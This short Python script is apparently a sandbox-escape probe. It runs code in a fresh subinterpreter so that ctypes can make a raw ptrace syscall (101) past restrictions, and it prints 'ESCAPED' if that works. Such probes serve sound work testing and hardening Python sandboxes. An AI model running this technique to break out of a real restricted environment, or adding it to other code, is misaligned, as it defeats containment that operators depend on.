try:
    import _xxsubinterpreters as interpreters
except ImportError:
    import _interpreters as interpreters

code = "import ctypes; ctypes.CDLL(None).syscall(101, 0, 0, 0, 0)"
interpreters.run_string(interpreters.create(), code)
print("ESCAPED")
